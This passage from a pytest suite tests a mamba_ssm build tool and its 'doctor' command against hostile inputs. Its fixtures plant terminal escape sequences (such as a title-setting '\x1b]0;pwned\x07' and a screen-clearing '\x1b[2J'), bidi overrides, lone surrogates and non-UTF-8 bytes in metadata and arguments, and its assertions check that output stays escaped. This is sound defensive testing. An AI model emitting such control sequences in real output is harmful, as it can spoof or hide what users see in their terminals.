    DoctorCase("doctor-variant-json-variants-a-list", 1, "mamba_ssm", _installed_edit(_write("variant.json", rb'{"variants": [["\u001b]0;x\u0007"]]}'))),
    DoctorCase("doctor-metadata-not-utf8", 1, "its installed METADATA cannot be read",
               _installed_edit(_write("METADATA", b"Metadata-Version: 2.1\nName: mamba-ssm\nVersion: 0.3.0\nSummary: \xff\xfe\n"))),
    DoctorCase("doctor-metadata-version-empty", 1, "mamba_ssm",
               _installed_edit(_write("METADATA", b"Metadata-Version: 2.1\nName: mamba-ssm\nVersion: 2..\n"))),
    DoctorCase("doctor-provenance-escapes-surrogates", 1, "mamba_ssm", _installed_edit(_write(
        "farm-provenance.json", json.dumps({"source": {"kind": "checkout", "commit": "\x1b]0;x\x07\u202e\ud800", "dirty": True},
                                            "id": "\x1b[2J\r"}).encode()))),
]  # fmt: skip


@pytest.fixture(scope="module")
def doctor_world(tmp_path_factory):
    with hostilekit.hostile_index() as url:
        yield DoctorWorld(tmp_path_factory.mktemp("hostile-doctor"), url)


def _run_doctor(python: str, argv: list[str], env: dict, stdin, scratch: Path) -> tuple[int | str, str, str]:
    base = {k: v for k, v in os.environ.items() if not k.startswith(("PIP_", "MAMBA_", "HOSTILE_CORPUS"))}
    base.update(PYTHONPATH=str(CODE), PYTHONDONTWRITEBYTECODE="1", NO_PROXY="127.0.0.1,localhost", no_proxy="127.0.0.1,localhost")
    base.update(env)
    fd = stdin() if callable(stdin) else None
    try:
        proc = subprocess.run(
            [python, "-c", _DOCTOR_LIMITED, *argv], cwd=scratch, env=base, capture_output=True, timeout=TIMEOUT_S,
            input=stdin if isinstance(stdin, bytes) else None, stdin=fd if fd is not None else (None if isinstance(stdin, bytes) else subprocess.DEVNULL),
            check=False,
        )  # fmt: skip
    except subprocess.TimeoutExpired as err:
        return "hang", (err.stdout or b"").decode(errors="replace"), f"(no answer in {TIMEOUT_S} s)"
    finally:
        if fd is not None:
            os.close(fd)
    return proc.returncode, proc.stdout.decode("utf-8", "replace"), proc.stderr.decode("utf-8", "replace")


def _has_torch() -> bool:
    import importlib.util

    return importlib.util.find_spec("torch") is not None


@pytest.mark.parametrize("case", DOCTOR_CASES, ids=[c.name for c in DOCTOR_CASES])
def test_doctor_hostile_input(doctor_world: DoctorWorld, case: DoctorCase):
    if case.needs_torch and not _has_torch():
        pytest.skip("the prebuilt lookup needs a torch for the doctor to read")
    scratch = doctor_world.cases / case.name
    scratch.mkdir()
    argv, env, stdin = case.make(doctor_world, scratch)
    before = snapshot(doctor_world.root, skip=(scratch,))
    python = sys.executable if case.needs_torch else doctor_world.bare
    started = time.monotonic()
    rc, out, err = _run_doctor(python, argv, env, stdin, scratch)
    seconds = time.monotonic() - started
    after = snapshot(doctor_world.root, skip=(scratch,))
    outside = sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k))
    expect = case.expect if isinstance(case.expect, set) else {case.expect}
    result = {
        "case": case.name, "expect": sorted(expect), "exit": rc, "clear": case.message in err or case.message in out,
        "traceback": "Traceback" in err, "written_outside": outside, "raw_control": raw_hidden(out + err)[:5],
        "stderr": err.strip().splitlines()[-1:] if err.strip() else [],
    }  # fmt: skip
    if REPORT:
        with open(REPORT, "a") as f:
            f.write(json.dumps(result) + "\n")
    assert result["traceback"] is False, err[-3000:]
    assert rc in expect, (rc, out[-2000:], err[-2000:])
    assert result["clear"], (case.message, out[-2000:], err[-2000:])
    if rc not in (0, 1):
        assert err.startswith("error: "), err
    assert not result["raw_control"], result["raw_control"]
    assert not outside, f"written outside the scratch folder: {outside[:5]}"
    assert not list(scratch.rglob("MARK*")), "a printed value reached a shell"
    assert seconds < 30, f"{case.name}: {seconds:.0f} s"
    if "--json" in argv and rc in (0, 1):  # valid UTF-8 for any parser: no escaped lone surrogate either
        assert "\\ud8" not in out.lower() and "\\udc" not in out.lower() and json.loads(out), out[-2000:]
# --------------------------------------------------------------------------- the rule for new surfaces

# Every command of builder/commands/cli.py's registry: each input it reads from outside the process, and the prefixes of
# the cases above that attack it (a reader two commands share counts for both: `build` unpacks sdists with
# `recipe prepare`'s code and reads the matrix with `plan`'s). A new command, or a new input, lands with its case.
SURFACES: dict[str, dict[str, tuple[str, ...]]] = {
    "plan": {"matrix.toml": ("matrix-",), "recipes": ("recipe-",)},
    "render": {"matrix.toml": ("render-", "matrix-")},
    "build": {
        "matrix.toml": ("matrix-",),
        "recipes": ("recipe-",),
        "sdists": ("sdist-",),
        "archive URLs": ("archive-",),
        "git repositories": ("git-",),
        "index pages": ("fetch_",),
        "smoke cache": ("cache-",),
    },
    "index": {
        "wheels": ("index-",),
        "sidecars": ("index-fifo-sidecar",),
        "evidence records": ("index-evidence-",),
        "--base-url": ("index-base-url-",),
        "zip members": ("index-zip-", "index-metadata-"),
    },
    "resolve": {"manifest": ("resolve-",)},
    "reproduce": {"wheel": ("verify-",)},
    "recipe": {"recipes": ("recipe-",), "sdists": ("sdist-",), "index pages": ("fetch_",),
               "archive URLs": ("archive-",), "git repositories": ("git-",), "setup.py's metadata": ("preflight-",)},
    "drift": {"listing": ("drift-",), "METADATA": ("drift-arbitrary-", "drift-sha256-"),
              "a canary's branch (its head, tags)": ("drift-canary-",)},
    "installs": {"matrix.toml": ("matrix-",), "recipes": ("recipe-",), "sdists": ("sdist-",),
                 "snapshot listings": ("installs-listing-",), "snapshot METADATA": ("installs-metadata-",),
                 "the record": ("installs-record-",), "the resolution cache": ("installs-cache-",),
                 "--export and --locks": ("installs-export-", "installs-locks-")},
    "cache": {"smoke cache": ("cache-",), "--budget": ("cache-budget-",)},
    # release: only `release cost`'s records have cases; collect/split/variant-files/gate read the plan's own JSON,
    # the sidecars and the evidence records (the index's and `evidence`'s cases), made by this farm in CI
    "release": {"cost records": ("release-cost-",)},
    "evidence": {"evidence records": ("evidence-harvest-",), "--ledger": ("evidence-ledger-",),
                 "--hip": ("evidence-hip-",)},
    "rehearse": {
        "--tag/--version": ("rehearse-tag-", "rehearse-version-"),
        "--port": ("rehearse-port-",),
        "--workflow": ("rehearse-workflow-",),
        "--work": ("rehearse-work-",),
    },
}  # fmt: skip
# Commands that read nothing from outside the process, or whose input has no case yet (with the reason).
NO_OUTSIDE_DATA = {
    "hip-compile": "reads this checkout's own csrc/ and the ROCm toolchain it runs; no outside data",
    "doctor-dist": "packs this checkout's own mamba_ssm/doctor and the modules it imports; no outside data",
    "base-image": "reads --ca-bundle (a host file the operator names) and Docker; no case yet",
}


def test_every_command_that_reads_outside_data_has_a_hostile_case_per_input():
    from builder.commands.cli import COMMANDS

    names = [c.name for c in CASES]
    missing = [c for c in COMMANDS if c not in SURFACES and c not in NO_OUTSIDE_DATA]
    assert not missing, f"commands with no entry in SURFACES (each input and its hostile cases): {missing}"
    assert not set(SURFACES) & set(NO_OUTSIDE_DATA) and set(SURFACES) | set(NO_OUTSIDE_DATA) <= set(COMMANDS)
    for command, inputs in SURFACES.items():
        for what, prefixes in inputs.items():
            hits = [n for n in names if n.startswith(prefixes)]
            assert hits, f"{command}: no hostile case for its input {what} (a case named {' or '.join(prefixes)}...)"


# --------------------------------------------------------------------------- the rule for the classes of hostile input

# Each class is closed once, in builder/facts/untrusted.py and mamba_ssm/guard.py (field/expect, release, marker_holds, text,
# guard_output, read_inside, RunBudget). For every command of SURFACES and the doctor: the cases that attack it with
# that class, or why the class cannot reach it. A new command (or a new reader) lands with its row in each class.
_NO_MARKER = "evaluates no environment marker (a marked Requires-Dist line is never a pin it reads)"
_NO_OWN_FOLDER = "reads only the paths it is given on the command line: no folder of its own for a link to leave"
_NO_NETWORK = "reads no network: every file it reads is capped (size, depth, zip members by both sizes)"
_FLAGS_ONLY = "reads its flags only (tag, version, port, workflow name, work folder)"
CLASSES: dict[str, dict[str, tuple[str, ...] | str]] = {
    "wrong shape": {
        "plan": ("matrix-torch-a-string",), "render": ("render-matrix-torch-a-string",),
        "build": ("matrix-torch-a-string", "recipe-build-env-a-list"), "index": ("index-live-manifest-a-list",),
        "resolve": ("resolve-wheel-variants-a-list", "resolve-wheel-variants-files-a-string", "resolve-files-a-list"),
        "reproduce": ("verify-provenance-source-a-list",), "recipe": ("recipe-build-env-a-list", "fetch_json_files_a_string"),
        "drift": ("drift-hashes-a-list", "drift-wrong-types"), "release": ("release-cost-a-list",),
        "cache": "reads text markers (.complete) and folder names: no document with fields",
        "rehearse": _FLAGS_ONLY,
        "doctor": ("doctor-provenance-source-a-list", "doctor-provenance-a-string", "doctor-variant-json-variants-a-list"),
        "evidence": ("evidence-ledger-records-an-object",),
        "installs": ("installs-listing-a-string", "installs-record-a-list"),
    },
    "empty or malformed field": {
        "plan": ("matrix-torch-empty-part",), "render": ("render-matrix-python-empty-part",),
        "build": ("matrix-torch-empty-part", "recipe-version-empty"), "index": ("index-metadata-version-empty",),
        "resolve": ("resolve-wheel-variants-release-empty-part",), "reproduce": ("verify-spec-id-empty-part",),
        "recipe": ("recipe-version-empty",), "drift": ("drift-python-tag-empty-minor",),
        "cache": ("cache-budget-empty-number", "cache-budget-400-digits"), "release": ("release-cost-wall-empty",),
        "rehearse": ("rehearse-port-99999", "rehearse-version-regex-escape"),
        "doctor": ("doctor-metadata-version-empty",), "evidence": ("evidence-harvest-sha256-empty",),
        "installs": ("installs-listing-sha256-empty",),
    },
    "marker the library refuses": {
        "drift": ("drift-marker-undefined-comparison",),
        "installs": "hands each requirement's marker to pip and uv, which evaluate it; of its own it only asks whether "
                    "a Requires-Dist line of a pinned sdist names an extra",
        **dict.fromkeys(("plan", "render", "build", "index", "resolve", "reproduce", "recipe", "cache", "release",
                         "rehearse", "doctor", "evidence"), _NO_MARKER),
    },
    "bytes that are not text": {
        "plan": ("matrix-not-utf8",), "render": ("render-matrix-not-utf8",), "build": ("matrix-not-utf8", "recipe-not-utf8"),
        "index": ("index-metadata-not-utf8",), "resolve": ("resolve-bad-utf8",), "reproduce": ("verify-provenance-not-utf8",),
        "recipe": ("recipe-not-utf8", "fetch_page_not_utf8"), "drift": ("drift-metadata-not-utf8", "drift-bad-utf8"),
        "cache": ("cache-complete-not-utf8",), "release": ("release-cost-not-utf8",), "rehearse": _FLAGS_ONLY,
        "doctor": ("doctor-metadata-not-utf8", "doctor-explain-bad-utf8"), "evidence": ("evidence-harvest-not-utf8",),
        "installs": ("installs-metadata-not-utf8",),
    },
    "terminal controls, bidi overrides, surrogates": {
        "plan": ("matrix-torch-escapes",), "render": ("render-matrix-torch-escapes",),
        "build": ("matrix-torch-escapes", "recipe-name-escapes"), "index": ("index-tag-rlo",),
        "resolve": ("resolve-label-escapes", "resolve-label-surrogate"),
        "reproduce": ("verify-dirty-provenance-escapes", "verify-provenance-surrogate"),
        "recipe": ("recipe-name-escapes", "fetch_link_escapes"), "drift": ("drift-escape-in-listing",),
        "cache": ("cache-escape-in-complete", "cache-escape-in-slot-name"), "release": ("release-cost-escape",),
        "rehearse": ("rehearse-workflow-escapes",),
        "doctor": ("doctor-explain-escape", "doctor-provenance-escapes-surrogates"),
        "evidence": ("evidence-harvest-schema-escapes",),
        "installs": ("installs-listing-name-escapes",),
    },
    "links out of the farm's folders": {
        "cache": ("cache-complete-links-outside", "cache-prune-linked-slot"),
        "build": ("cache-complete-links-outside",), "index": ("index-out-links-outside", "index-dev-zero-link"),
        "drift": ("drift-cached-metadata-links-outside",),
        "installs": ("installs-metadata-links-outside", "installs-cache-dev-zero"),
        "recipe": "its sdist cache's archive is used only once its bytes hash to the pin: a link can only point at those bytes",
        "doctor": "reads the installed package as Python's import system finds it; of a RECORD-listed file only its "
                  "ELF header's machine is read and shown",
        **dict.fromkeys(("plan", "render", "resolve", "reproduce", "release", "rehearse", "evidence"), _NO_OWN_FOLDER),
    },
    "work without a run-wide budget": {
        "drift": ("drift-budget-bytes", "drift-budget-seconds", "drift-ranged-deflate-bomb"),
        "recipe": ("fetch_endless",), "build": ("fetch_endless",), "reproduce": ("verify-url-endless",),
        "resolve": "one manifest request, capped (256 MiB) under the request deadline",
        "installs": ("installs-metadata-resolver-bomb",),
        "doctor": ("doctor-lookup-trickle", "doctor-lookup-huge-page"),
        **dict.fromkeys(("plan", "render", "index", "cache", "release", "rehearse", "evidence"), _NO_NETWORK),
    },
}  # fmt: skip


def test_every_class_of_hostile_input_has_a_case_or_a_reason_per_command():
    names = {c.name for c in CASES} | {c.name for c in DOCTOR_CASES}
    commands = [*SURFACES, "doctor"]
    for cls, rows in CLASSES.items():
        missing = [c for c in commands if c not in rows]
        assert not missing, f"{cls}: no row for {missing} (the cases that attack it, or why the class cannot reach it)"
        extra = set(rows) - set(commands)
        assert not extra, f"{cls}: rows for commands that read no outside data: {extra}"
        for command, cover in rows.items():
            if isinstance(cover, str):
                assert len(cover) > 20, f"{cls}: {command}: a reason, not a word"
                continue
            unknown = [n for n in cover if n not in names]
            assert cover and not unknown, f"{cls}: {command}: no such case {unknown}"


@pytest.mark.parametrize("module", ["builder", "mamba_ssm.doctor"])
def test_what_the_argument_parser_echoes_is_neutral(module, tmp_path):
    """argparse quotes an unknown argument as it came (ESC, BEL, U+202E, a non-UTF-8 byte's lone surrogate): the
    one printing path (guard_output, installed before the parser runs) shows it escaped, never obeyed."""
    hostile = os.fsencode("\x1b]0;pwned\x07\u202e\x1b[2J") + b"\xff"
    proc = subprocess.run([sys.executable, "-m", module, *(["plan"] if module == "builder" else []), hostile],
                          cwd=CODE, capture_output=True, timeout=TIMEOUT_S, check=False,
                          env={**os.environ, "PYTHONPATH": str(CODE)})  # fmt: skip
    err = proc.stderr.decode("utf-8", "replace")
    assert proc.returncode == 2 and "unrecognized arguments: \\x1b]0;pwned\\x07\\u202e\\x1b[2J\\udcff" in err, err
    assert not any(c in err for c in "\x1b\x07\u202e"), err
